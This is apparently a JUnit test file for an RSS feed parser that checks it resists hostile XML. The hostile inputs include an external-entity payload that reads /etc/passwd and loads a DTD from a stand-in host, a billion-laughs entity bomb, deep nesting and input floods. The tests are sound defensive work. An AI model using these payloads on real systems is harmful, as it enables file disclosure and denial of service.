package app.earmark.feed;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import app.earmark.model.FeedDiagnostic;
import app.earmark.model.FeedProblem;
import app.earmark.model.ParsedFeed;
import app.earmark.util.Texts;
import java.time.Duration;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** XML that is made to harm whoever reads it. Each is refused in words or read without harm, and within seconds. */
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class HostileFeedTest {

  @Test
  void externalEntitiesAreNotLookedFor() {
    ParsedFeed feed = Reading.feed("<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">"
        + "<!ENTITY % y SYSTEM \"http://evil.test/y.dtd\"> %y;]><rss><channel><title>A &x; B</title></channel></rss>");
    assertThat(feed.title()).isEqualTo("A &x; B");
    assertThat(feed.diagnostics()).extracting(FeedDiagnostic::detail).anyMatch(d -> d.contains("document type"));
  }

  @Test
  void entitiesAreNotExpanded() {
    StringBuilder bomb = new StringBuilder("<!DOCTYPE rss [<!ENTITY a0 \"lol\">");
    for (int i = 1; i < 10; i++) {
      bomb.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
    }
    ParsedFeed feed = Reading.feed(bomb + "]><rss><channel><title>&a9;</title></channel></rss>");
    assertThat(feed.title()).isEqualTo("&a9;");
  }

  @Test
  void plainTextsThatADocumentDeclaresArePutInWithinBounds() {
    ParsedFeed feed = Reading.feed("<!DOCTYPE rss [<!ENTITY Pub \"Radio \n é\"><!ENTITY tag '<b>'>"
        + "<!ENTITY Pub \"second\"><!ENTITY nbsp \"x\">]><rss><channel><title>&Pub; &tag; &Other;</title>"
        + "</channel></rss>");
    assertThat(feed.title()).isEqualTo("Radio é &tag; &Other;");
    String long1000 = "x".repeat(1000);
    ParsedFeed bomb = Reading.feed("<!DOCTYPE rss [<!ENTITY a \"" + long1000 + "\">]><rss><channel><title>x</title>"
        + "<description>" + "&a;".repeat(100_000) + "</description></channel></rss>");
    assertThat(bomb.description()).hasSizeLessThan(100_000 * 3 + 300_000);
  }

  @Test
  void deepNestingIsRefused() {
    String deep = "<a>".repeat(10_000) + "</a>".repeat(10_000);
    assertRefused("<rss><channel>" + deep + "</channel></rss>");
    assertRefused(Reading.around("<item>" + deep + "</item>"));
    assertRefused(Reading.around("<item><title>x</title><description>" + deep + "</description></item>"));
    assertRefused("<rss><channel>" + "<item><media:group>".repeat(10) + "<psc:x>".repeat(10_000));
  }

  @Test
  void floodsOfOneThingEndInTime() {
    int size = 1_000_000;
    for (String drop : new String[] {"<", "&", "<!--", "<![CDATA[", "]]>", "<a ", "<a b=\"", "<a b='x", "</a>",
        "<item>",
        "<item><title>", "<rss>", "<!DOCTYPE [", "<?x ", "&a;", "[audio ", "<p", "<a href='", "<title><b>", "\u0000",
        "<item/>", "<item><enclosure url='x' a", "<description><![CDATA[[audio:<a"}) {
      String flood = Reading.around("<item><description>").replace("</channel></rss>", "")
          + drop.repeat(size / drop.length());
      FeedReading reading = Reading.of(flood.getBytes(UTF_8), null);
      assertThat(reading).as(drop).isInstanceOfAny(FeedReading.Read.class, FeedReading.Unreadable.class);
    }
  }

  @Test
  void tooLarge() {
    FeedReading reading = Reading.of(new byte[FeedReader.MOST_BYTES + 1], null);
    assertThat(reading).isInstanceOf(FeedReading.Unreadable.class);
    byte[] large = new byte[FeedReader.MOST_BYTES + 1];
    large[0] = '<';
    assertThat(((FeedReading.Unreadable) Reading.of(large, null)).problem()).isInstanceOf(FeedProblem.TooLarge.class);
  }

  @Test
  void aReadingThatTakesTooLongIsGivenUp() {
    byte[] body = Reading.around("<item><title>x</title></item>".repeat(5000)).getBytes(UTF_8);
    FeedReading reading = new FeedReader(Duration.ZERO).read(new FeedDocument(body, Reading.URL, null));
    assertThat(reading).isEqualTo(new FeedReading.Unreadable(new FeedProblem.Refused("feed.test")));
    assertThat(new Texts(Locale.ENGLISH).get(new FeedProblem.Refused("feed.test").message())).contains("feed.test");
  }

  @Test
  void anInterruptEndsTheReading() {
    byte[] body = Reading.around("<item><title>x</title></item>".repeat(5000)).getBytes(UTF_8);
    Thread.currentThread().interrupt();
    FeedReading reading = Reading.of(body, null);
    assertThat(Thread.interrupted()).as("the flag stays").isTrue();
    assertThat(reading).isInstanceOf(FeedReading.Unreadable.class);
  }

  private static void assertRefused(String body) {
    FeedReading reading = Reading.of(body.getBytes(UTF_8), null);
    assertThat(reading).isInstanceOf(FeedReading.Unreadable.class);
    assertThat(((FeedReading.Unreadable) reading).problem()).isEqualTo(new FeedProblem.Refused("feed.test"));
  }
}
